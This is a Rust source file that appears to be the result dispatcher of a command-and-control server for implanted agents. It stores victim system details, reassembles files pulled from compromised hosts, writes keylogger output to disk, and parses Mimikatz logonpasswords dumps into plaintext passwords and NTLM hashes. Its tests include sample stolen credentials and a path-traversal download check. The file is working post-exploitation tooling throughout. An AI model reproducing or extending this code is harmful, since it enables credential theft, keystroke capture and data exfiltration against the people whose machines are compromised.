//! Response dispatcher (C8): fans incoming result packets out by
//! `response_name`, the way the original long `if/elif` opcode chain did,
//! replaced here with a tagged enum and an exhaustive match.

use std::path::Path;

use regex::Regex;
use serde::Deserialize;
use tracing::{info, warn};

use crate::collab::{Credential, CredentialStore, CredentialType};
use crate::error::Result;
use crate::events::{AgentEvent, EventSink};
use crate::filesink;
use crate::packet::{Language, ResultChunk};
use crate::persistence::FileDirectoryEntry;
use crate::store::AgentStore;

/// `response_name` / task-name code space. Both directions of the
/// protocol (server→agent tasking, agent→server results) share one set
/// of numeric codes, matching how this codebase's historical task
/// dispatch reused the same constants for a command and its reply.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Opcode {
    Error,
    TaskSysinfo,
    TaskExit,
    TaskShell,
    TaskScriptImport,
    TaskImportModule,
    TaskViewModule,
    TaskRemoveModule,
    TaskScriptCommand,
    TaskGetJobs,
    TaskStopJob,
    TaskGetDownloads,
    TaskStopDownload,
    TaskDownload,
    TaskDirList,
    TaskCmdWait,
    TaskCmdWaitSave,
    TaskCmdJobSave,
    TaskCmdJob,
    TaskSwitchListener,
    TaskUpdateListenerName,
    TaskUpload,
    Other(u16),
}

impl Opcode {
    pub fn to_u16(self) -> u16 {
        match self {
            Opcode::Error => 0,
            Opcode::TaskSysinfo => 1,
            Opcode::TaskExit => 2,
            Opcode::TaskShell => 3,
            Opcode::TaskScriptImport => 4,
            Opcode::TaskImportModule => 5,
            Opcode::TaskViewModule => 6,
            Opcode::TaskRemoveModule => 7,
            Opcode::TaskScriptCommand => 8,
            Opcode::TaskGetJobs => 9,
            Opcode::TaskStopJob => 10,
            Opcode::TaskGetDownloads => 11,
            Opcode::TaskStopDownload => 12,
            Opcode::TaskDownload => 13,
            Opcode::TaskDirList => 14,
            Opcode::TaskCmdWait => 15,
            Opcode::TaskCmdWaitSave => 16,
            Opcode::TaskCmdJobSave => 17,
            Opcode::TaskCmdJob => 18,
            Opcode::TaskSwitchListener => 19,
            Opcode::TaskUpdateListenerName => 20,
            Opcode::TaskUpload => 21,
            Opcode::Other(n) => n,
        }
    }

    pub fn from_u16(n: u16) -> Self {
        match n {
            0 => Opcode::Error,
            1 => Opcode::TaskSysinfo,
            2 => Opcode::TaskExit,
            3 => Opcode::TaskShell,
            4 => Opcode::TaskScriptImport,
            5 => Opcode::TaskImportModule,
            6 => Opcode::TaskViewModule,
            7 => Opcode::TaskRemoveModule,
            8 => Opcode::TaskScriptCommand,
            9 => Opcode::TaskGetJobs,
            10 => Opcode::TaskStopJob,
            11 => Opcode::TaskGetDownloads,
            12 => Opcode::TaskStopDownload,
            13 => Opcode::TaskDownload,
            14 => Opcode::TaskDirList,
            15 => Opcode::TaskCmdWait,
            16 => Opcode::TaskCmdWaitSave,
            17 => Opcode::TaskCmdJobSave,
            18 => Opcode::TaskCmdJob,
            19 => Opcode::TaskSwitchListener,
            20 => Opcode::TaskUpdateListenerName,
            21 => Opcode::TaskUpload,
            other => Opcode::Other(other),
        }
    }
}

pub struct DispatchContext<'a> {
    pub store: &'a AgentStore,
    pub events: &'a dyn EventSink,
    pub credentials: &'a dyn CredentialStore,
    pub downloads_root: &'a Path,
}

#[derive(Deserialize)]
struct DirListPayload {
    directory_name: String,
    directory_path: String,
    items: Vec<DirItem>,
}

#[derive(Deserialize)]
struct DirItem {
    name: String,
    path: String,
    is_file: bool,
}

/// Append `text` both to the agent's rolling results buffer and the
/// per-task result row, publish a `result` event, and append the same
/// text to the agent's on-disk console log.
fn append_result(ctx: &DispatchContext, session_id: &str, opcode: Opcode, task_id: u16, text: &str) -> Result<()> {
    ctx.store.append_results_text(session_id, text)?;
    ctx.store.db.append_result_data(session_id, task_id, text)?;
    ctx.events.publish(AgentEvent::result(session_id, opcode.to_u16(), task_id, text, true));
    if let Err(e) = filesink::append_agent_log(ctx.downloads_root, session_id, text) {
        warn!(session_id, error = %e, "agent log append failed");
    }
    Ok(())
}

fn text_of(chunk: &ResultChunk) -> String {
    String::from_utf8_lossy(&chunk.data).to_string()
}

/// Dispatch one parsed result chunk. Never partially applies — a
/// malformed chunk for an opcode that needs structure (JSON, the
/// download frame) is logged and otherwise ignored; it never propagates
/// as a hard error that would abort the rest of the batch.
pub fn dispatch(ctx: &DispatchContext, session_id: &str, chunk: &ResultChunk) -> Result<()> {
    let opcode = Opcode::from_u16(chunk.response_name);

    match opcode {
        Opcode::Error => {
            let text = text_of(chunk);
            warn!(session_id, %text, "agent reported error");
            append_result(ctx, session_id, opcode, chunk.task_id, &text)?;
        }
        Opcode::TaskSysinfo => {
            // Re-run the STAGE2 sysinfo parse with no nonce check.
            let text = text_of(chunk);
            let fields: Vec<&str> = text.split('|').collect();
            if fields.len() == 12 {
                let domain = fields[2];
                let user = fields[3];
                let username = if domain.is_empty() { user.to_string() } else { format!("{domain}\\{user}") };
                ctx.store.update_sysinfo(session_id, |agent| {
                    agent.listener = fields[1].to_string();
                    agent.username = username;
                    agent.hostname = fields[4].to_string();
                    agent.internal_ip = fields[5].to_string();
                    agent.os_details = fields[6].to_string();
                    agent.high_integrity = fields[7] == "True";
                    agent.process_name = fields[8].to_string();
                    agent.process_id = fields[9].parse().unwrap_or(agent.process_id);
                    agent.language_version = fields[11].to_string();
                })?;
            } else {
                warn!(session_id, "TASK_SYSINFO payload malformed, ignoring");
            }
        }
        Opcode::TaskExit => {
            info!(session_id, "agent exiting");
            ctx.events.publish(AgentEvent::checkin(session_id, "agent.exited"));
            let text = text_of(chunk);
            if let Err(e) = filesink::append_agent_log(ctx.downloads_root, session_id, &text) {
                warn!(session_id, error = %e, "agent log append failed");
            }
            ctx.store.remove_agent(session_id)?;
        }
        Opcode::TaskShell
        | Opcode::TaskScriptImport
        | Opcode::TaskImportModule
        | Opcode::TaskViewModule
        | Opcode::TaskRemoveModule
        | Opcode::TaskScriptCommand
        | Opcode::TaskGetJobs
        | Opcode::TaskStopJob
        | Opcode::TaskGetDownloads
        | Opcode::TaskStopDownload => {
            let text = text_of(chunk);
            append_result(ctx, session_id, opcode, chunk.task_id, &text)?;
        }
        Opcode::TaskDownload => {
            handle_download(ctx, session_id, chunk)?;
        }
        Opcode::TaskDirList => {
            handle_dir_list(ctx, session_id, chunk)?;
        }
        Opcode::TaskCmdWait => {
            let text = text_of(chunk);
            append_result(ctx, session_id, opcode, chunk.task_id, &text)?;
            harvest_credentials(ctx, session_id, &text)?;
        }
        Opcode::TaskCmdWaitSave | Opcode::TaskCmdJobSave => {
            handle_save_variant(ctx, session_id, chunk)?;
        }
        Opcode::TaskCmdJob => {
            handle_cmd_job(ctx, session_id, chunk)?;
        }
        Opcode::TaskSwitchListener => {
            if chunk.data.len() > 38 {
                let name = String::from_utf8_lossy(&chunk.data[38..]).trim().to_string();
                ctx.store.update_listener(session_id, &name)?;
                info!(session_id, listener = %name, "agent switched listener");
                let text = text_of(chunk);
                if let Err(e) = filesink::append_agent_log(ctx.downloads_root, session_id, &text) {
                    warn!(session_id, error = %e, "agent log append failed");
                }
            } else {
                warn!(session_id, "TASK_SWITCH_LISTENER payload too short, ignoring");
            }
        }
        Opcode::TaskUpdateListenerName => {
            info!(session_id, "agent acknowledged listener rename");
            let text = text_of(chunk);
            if let Err(e) = filesink::append_agent_log(ctx.downloads_root, session_id, &text) {
                warn!(session_id, error = %e, "agent log append failed");
            }
        }
        Opcode::TaskUpload => {}
        Opcode::Other(code) => {
            warn!(session_id, opcode = code, "unknown response opcode");
        }
    }

    Ok(())
}

fn handle_download(ctx: &DispatchContext, session_id: &str, chunk: &ResultChunk) -> Result<()> {
    let text = text_of(chunk);
    let fields: Vec<&str> = text.splitn(4, '|').collect();
    if fields.len() != 4 {
        warn!(session_id, "TASK_DOWNLOAD payload malformed, dropping chunk");
        return Ok(());
    }
    let index: u32 = match fields[0].parse() {
        Ok(v) => v,
        Err(_) => {
            warn!(session_id, "TASK_DOWNLOAD index not numeric, dropping chunk");
            return Ok(());
        }
    };
    let path = fields[1];
    let total_size: u64 = fields[2].parse().unwrap_or(0);
    let bytes = match base64::Engine::decode(&base64::engine::general_purpose::STANDARD, fields[3]) {
        Ok(b) => b,
        Err(_) => {
            warn!(session_id, "TASK_DOWNLOAD chunk not valid base64, dropping");
            return Ok(());
        }
    };

    let agent = ctx.store.get_agent(session_id);
    let language = agent.map(|a| a.language).unwrap_or(Language::Powershell);

    match filesink::save_download(ctx.downloads_root, session_id, path, &bytes, total_size, index != 0, language, ctx.events) {
        Ok((saved_path, pct)) => {
            info!(session_id, path = %saved_path.display(), pct, "download chunk written");
            let msg = format!("file download: {path}, part: {index}");
            if let Err(e) = filesink::append_agent_log(ctx.downloads_root, session_id, &msg) {
                warn!(session_id, error = %e, "agent log append failed");
            }
        }
        Err(e) => warn!(session_id, error = %e, "download chunk rejected"),
    }
    Ok(())
}

fn handle_dir_list(ctx: &DispatchContext, session_id: &str, chunk: &ResultChunk) -> Result<()> {
    let payload: DirListPayload = match serde_json::from_slice(&chunk.data) {
        Ok(p) => p,
        Err(e) => {
            warn!(session_id, error = %e, "TASK_DIR_LIST payload not valid JSON, dropping");
            return Ok(());
        }
    };

    let entries: Vec<FileDirectoryEntry> = payload
        .items
        .into_iter()
        .map(|item| FileDirectoryEntry {
            id: 0,
            session_id: session_id.to_string(),
            parent_id: None,
            name: item.name,
            path: item.path,
            is_file: item.is_file,
        })
        .collect();

    ctx.store
        .db
        .replace_directory_children(session_id, &payload.directory_path, &payload.directory_name, &entries)?;

    let text = text_of(chunk);
    append_result(ctx, session_id, Opcode::TaskDirList, chunk.task_id, &text)?;
    Ok(())
}

fn handle_save_variant(ctx: &DispatchContext, session_id: &str, chunk: &ResultChunk) -> Result<()> {
    const PREFIX_LEN: usize = 15;
    const EXT_LEN: usize = 5;
    if chunk.data.len() < PREFIX_LEN + EXT_LEN {
        warn!(session_id, "save-variant payload too short, dropping");
        return Ok(());
    }
    let prefix = String::from_utf8_lossy(&chunk.data[..PREFIX_LEN]).trim().to_string();
    let ext = String::from_utf8_lossy(&chunk.data[PREFIX_LEN..PREFIX_LEN + EXT_LEN]).trim().to_string();
    let b64 = &chunk.data[PREFIX_LEN + EXT_LEN..];

    let bytes = match base64::Engine::decode(&base64::engine::general_purpose::STANDARD, b64) {
        Ok(b) => b,
        Err(_) => {
            warn!(session_id, "save-variant body not valid base64, dropping");
            return Ok(());
        }
    };

    let host = ctx.store.get_agent(session_id).map(|a| a.hostname).unwrap_or_default();
    let ts = chrono::Utc::now().format("%Y%m%d%H%M%S");
    let relative_name = format!("{prefix}/{host}_{ts}.{ext}");

    match filesink::save_named_file(ctx.downloads_root, session_id, &relative_name, &bytes) {
        Ok(path) => {
            info!(session_id, path = %path.display(), "saved job output file");
            let msg = format!("Output saved to .{}", path.display());
            if let Err(e) = filesink::append_agent_log(ctx.downloads_root, session_id, &msg) {
                warn!(session_id, error = %e, "agent log append failed");
            }
        }
        Err(e) => warn!(session_id, error = %e, "save-variant write rejected"),
    }
    Ok(())
}

fn handle_cmd_job(ctx: &DispatchContext, session_id: &str, chunk: &ResultChunk) -> Result<()> {
    let module_name = ctx.store.db.task_module_name(session_id, chunk.task_id)?;
    let text = text_of(chunk);

    if module_name.as_deref() == Some("keylogger") {
        filesink::append_keystrokes(ctx.downloads_root, session_id, &text)?;
        return Ok(());
    }

    append_result(ctx, session_id, Opcode::TaskCmdJob, chunk.task_id, &text)?;
    if looks_like_mimikatz_dump(&text) {
        harvest_credentials(ctx, session_id, &text)?;
    }
    Ok(())
}

fn looks_like_mimikatz_dump(text: &str) -> bool {
    let lowered = text.to_lowercase();
    lowered.contains("mimikatz") || lowered.contains("sekurlsa") || lowered.contains("logonpasswords")
}

/// Scan `sekurlsa::logonpasswords`-shaped lines for username/domain paired
/// with a plaintext password or NTLM hash, and upsert each through the
/// credential-store collaborator. A username line starts a new record;
/// subsequent domain/password/ntlm lines attach to the most recent one
/// until the next username line.
fn harvest_credentials(ctx: &DispatchContext, session_id: &str, text: &str) -> Result<()> {
    let user_re = Regex::new(r"(?i)username\s*:\s*(\S+)").expect("valid regex");
    let domain_re = Regex::new(r"(?i)domain\s*:\s*(\S+)").expect("valid regex");
    let password_re = Regex::new(r"(?i)password\s*:\s*(\S+)").expect("valid regex");
    let ntlm_re = Regex::new(r"(?i)ntlm\s*:\s*([0-9a-fA-F]{32})").expect("valid regex");

    let host = ctx.store.get_agent(session_id).map(|a| a.hostname).unwrap_or_default();
    let mut current_user: Option<String> = None;
    let mut current_domain = String::new();

    for line in text.lines() {
        if let Some(c) = user_re.captures(line) {
            current_user = Some(c[1].to_string());
            current_domain.clear();
            continue;
        }
        if let Some(c) = domain_re.captures(line) {
            current_domain = c[1].to_string();
            continue;
        }
        if let (Some(user), Some(c)) = (&current_user, password_re.captures(line)) {
            let secret = &c[1];
            if secret != "(null)" && !secret.is_empty() {
                ctx.credentials.upsert(Credential {
                    username: user.clone(),
                    domain: current_domain.clone(),
                    secret: secret.to_string(),
                    host: host.clone(),
                    cred_type: CredentialType::Plaintext,
                })?;
            }
            continue;
        }
        if let (Some(user), Some(c)) = (&current_user, ntlm_re.captures(line)) {
            ctx.credentials.upsert(Credential {
                username: user.clone(),
                domain: current_domain.clone(),
                secret: c[1].to_string(),
                host: host.clone(),
                cred_type: CredentialType::Ntlm,
            })?;
        }
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::collab::NullCredentialStore;
    use crate::events::EventBus;
    use crate::packet::Language as Lang;
    use crate::persistence::SqliteStore;
    use crate::store::Agent;
    use std::cell::RefCell;
    use std::sync::Arc;

    fn fresh_store_with_agent(session_id: &str) -> AgentStore {
        let db: Arc<dyn crate::persistence::Store> = Arc::new(SqliteStore::open_in_memory().unwrap());
        let store = AgentStore::open(db).unwrap();
        store
            .add_agent(Agent::new_staged(
                session_id.to_string(),
                Lang::Powershell,
                vec![0u8; 32],
                vec![1u8; 32],
                "1111111111111111".to_string(),
                "http".to_string(),
                5,
                0.0,
                10,
                String::new(),
                String::new(),
                String::new(),
            ))
            .unwrap();
        store
    }

    struct CollectingCredentialStore {
        seen: RefCell<Vec<Credential>>,
    }
    impl CredentialStore for CollectingCredentialStore {
        fn upsert(&self, credential: Credential) -> Result<()> {
            self.seen.borrow_mut().push(credential);
            Ok(())
        }
    }

    #[test]
    fn opcode_round_trips_through_numeric_code() {
        for code in 0u16..=21 {
            assert_eq!(Opcode::from_u16(code).to_u16(), code);
        }
        assert_eq!(Opcode::from_u16(999), Opcode::Other(999));
    }

    #[test]
    fn error_opcode_appends_and_publishes() {
        let store = fresh_store_with_agent("A1");
        let events = EventBus::new();
        let creds = NullCredentialStore;
        let dir = tempfile::tempdir().unwrap();
        let ctx = DispatchContext { store: &store, events: &events, credentials: &creds, downloads_root: dir.path() };

        let chunk = ResultChunk { response_name: Opcode::Error.to_u16(), total_packets: 1, packet_num: 0, task_id: 1, data: b"boom".to_vec() };
        dispatch(&ctx, "A1", &chunk).unwrap();

        let agent = store.get_agent("A1").unwrap();
        assert!(agent.results.contains("boom"));
    }

    #[test]
    fn task_exit_removes_agent() {
        let store = fresh_store_with_agent("A1");
        let events = EventBus::new();
        let creds = NullCredentialStore;
        let dir = tempfile::tempdir().unwrap();
        let ctx = DispatchContext { store: &store, events: &events, credentials: &creds, downloads_root: dir.path() };

        let chunk = ResultChunk { response_name: Opcode::TaskExit.to_u16(), total_packets: 1, packet_num: 0, task_id: 1, data: vec![] };
        dispatch(&ctx, "A1", &chunk).unwrap();

        assert!(!store.contains("A1"));
    }

    #[test]
    fn multi_part_download_assembles_through_dispatch() {
        let store = fresh_store_with_agent("A1");
        let events = EventBus::new();
        let creds = NullCredentialStore;
        let dir = tempfile::tempdir().unwrap();
        let ctx = DispatchContext { store: &store, events: &events, credentials: &creds, downloads_root: dir.path() };

        let chunk0 = make_download_chunk(0, "reports\\q.pdf", 200_000, &vec![1u8; 100_000]);
        let chunk1 = make_download_chunk(1, "reports\\q.pdf", 200_000, &vec![1u8; 100_000]);
        dispatch(&ctx, "A1", &chunk0).unwrap();
        dispatch(&ctx, "A1", &chunk1).unwrap();

        let path = dir.path().join("A1").join("reports").join("q.pdf");
        assert_eq!(std::fs::metadata(&path).unwrap().len(), 200_000);
    }

    fn make_download_chunk(index: u32, path: &str, total: u64, bytes: &[u8]) -> ResultChunk {
        let b64 = base64::Engine::encode(&base64::engine::general_purpose::STANDARD, bytes);
        let data = format!("{index}|{path}|{total}|{b64}").into_bytes();
        ResultChunk { response_name: Opcode::TaskDownload.to_u16(), total_packets: 1, packet_num: 0, task_id: 1, data }
    }

    #[test]
    fn path_escape_download_is_dropped() {
        let store = fresh_store_with_agent("A1");
        let events = EventBus::new();
        let creds = NullCredentialStore;
        let dir = tempfile::tempdir().unwrap();
        let ctx = DispatchContext { store: &store, events: &events, credentials: &creds, downloads_root: dir.path() };

        let chunk = make_download_chunk(0, "..\\..\\etc\\shadow", 4, b"evil");
        dispatch(&ctx, "A1", &chunk).unwrap();

        assert!(!dir.path().join("etc").exists());
    }

    #[test]
    fn dir_list_replaces_children() {
        let store = fresh_store_with_agent("A1");
        let events = EventBus::new();
        let creds = NullCredentialStore;
        let dir = tempfile::tempdir().unwrap();
        let ctx = DispatchContext { store: &store, events: &events, credentials: &creds, downloads_root: dir.path() };

        let first = serde_json::json!({
            "directory_name": "C:\\",
            "directory_path": "C:\\",
            "items": [
                {"name": "a.txt", "path": "C:\\a.txt", "is_file": true},
                {"name": "b.txt", "path": "C:\\b.txt", "is_file": true},
            ],
        });
        let chunk = ResultChunk { response_name: Opcode::TaskDirList.to_u16(), total_packets: 1, packet_num: 0, task_id: 1, data: serde_json::to_vec(&first).unwrap() };
        dispatch(&ctx, "A1", &chunk).unwrap();

        let children = store.db.directory_children("A1", "C:\\").unwrap();
        assert_eq!(children.len(), 2);
        assert!(children.iter().any(|c| c.name == "a.txt"));
        assert!(children.iter().any(|c| c.name == "b.txt"));

        // Re-applying the same listing is idempotent: still exactly two rows.
        dispatch(&ctx, "A1", &chunk).unwrap();
        let children = store.db.directory_children("A1", "C:\\").unwrap();
        assert_eq!(children.len(), 2);

        // A later listing with fewer items wholesale-replaces the children.
        let second = serde_json::json!({
            "directory_name": "C:\\",
            "directory_path": "C:\\",
            "items": [{"name": "c.txt", "path": "C:\\c.txt", "is_file": true}],
        });
        let chunk2 = ResultChunk { response_name: Opcode::TaskDirList.to_u16(), total_packets: 1, packet_num: 0, task_id: 2, data: serde_json::to_vec(&second).unwrap() };
        dispatch(&ctx, "A1", &chunk2).unwrap();
        let children = store.db.directory_children("A1", "C:\\").unwrap();
        assert_eq!(children.len(), 1);
        assert_eq!(children[0].name, "c.txt");

        let agent = store.get_agent("A1").unwrap();
        assert!(agent.results.contains("c.txt"));
    }

    #[test]
    fn cmd_wait_harvests_credentials() {
        let store = fresh_store_with_agent("A1");
        let events = EventBus::new();
        let creds = CollectingCredentialStore { seen: RefCell::new(Vec::new()) };
        let dir = tempfile::tempdir().unwrap();
        let ctx = DispatchContext { store: &store, events: &events, credentials: &creds, downloads_root: dir.path() };

        let text = "Username : alice\nDomain   : CORP\nPassword : Summer2024!\nNTLM     : 0123456789abcdef0123456789abcdef\n";
        let chunk = ResultChunk { response_name: Opcode::TaskCmdWait.to_u16(), total_packets: 1, packet_num: 0, task_id: 1, data: text.as_bytes().to_vec() };
        dispatch(&ctx, "A1", &chunk).unwrap();

        let seen = creds.seen.borrow();
        assert_eq!(seen.len(), 2);
        assert_eq!(seen[0].username, "alice");
        assert_eq!(seen[0].domain, "CORP");
        assert_eq!(seen[0].cred_type, CredentialType::Plaintext);
        assert_eq!(seen[1].cred_type, CredentialType::Ntlm);
    }

    #[test]
    fn keylogger_job_appends_to_keystrokes_file() {
        let db: Arc<dyn crate::persistence::Store> = Arc::new(SqliteStore::open_in_memory().unwrap());
        db.upsert_agent(&Agent::new_staged(
            "A1".to_string(), Lang::Powershell, vec![0u8; 32], vec![1u8; 32],
            "1111111111111111".to_string(), "http".to_string(), 5, 0.0, 10,
            String::new(), String::new(), String::new(),
        )).unwrap();
        db.insert_task(&crate::persistence::TaskRow {
            id: 1, agent: "A1".to_string(), user_id: 0, name: Opcode::TaskCmdJob.to_u16(),
            body: vec![], timestamp: chrono::Utc::now(), module_name: Some("keylogger".to_string()),
        }).unwrap();
        let store = AgentStore::open(db).unwrap();
        let events = EventBus::new();
        let creds = NullCredentialStore;
        let dir = tempfile::tempdir().unwrap();
        let ctx = DispatchContext { store: &store, events: &events, credentials: &creds, downloads_root: dir.path() };

        let chunk = ResultChunk { response_name: Opcode::TaskCmdJob.to_u16(), total_packets: 1, packet_num: 0, task_id: 1, data: b"hello world".to_vec() };
        dispatch(&ctx, "A1", &chunk).unwrap();

        let contents = std::fs::read_to_string(dir.path().join("A1").join("keystrokes.txt")).unwrap();
        assert_eq!(contents, "hello world");
    }
}
